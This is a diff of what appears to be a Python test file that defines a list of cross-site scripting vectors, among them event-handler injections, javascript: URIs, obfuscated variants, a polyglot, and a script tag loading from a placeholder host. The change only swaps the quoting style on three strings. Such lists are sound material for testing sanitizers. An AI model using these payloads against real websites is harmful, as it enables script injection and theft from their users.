@@ -18,7 +18,7 @@ VECTORS = [
     '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
     '"><img src=x onerror=alert(1)>',
     "'><svg onload=alert(1)>",
-    "\" autofocus onfocus=alert(1) x=\"",
+    '" autofocus onfocus=alert(1) x="',
     '<a href="javascript:alert(1)">link</a>',
     '<a href="JaVaScRiPt:alert(1)">link</a>',
     '<a href="java&#x09;script:alert(1)">tab</a>',
@@ -33,7 +33,7 @@ VECTORS = [
     "javascript:alert(document.domain)",
     "<<SCRIPT>alert(1);//\\<</SCRIPT>",
     "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
-    "<iframe src=\"javascript:alert(1)\"></iframe>",
+    '<iframe src="javascript:alert(1)"></iframe>',
     '<object data="javascript:alert(1)"></object>',
     '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
     '<base href="javascript:alert(1)//">',
@@ -51,6 +51,6 @@ VECTORS = [
     "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/"
     "</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
     "'\"--></style></script><script>alert(1)</script>",
-    "http://example.com/\"onmouseover=\"alert(1)",
+    'http://example.com/"onmouseover="alert(1)',
     "https://example.com/<script>alert(1)</script>",
 ]
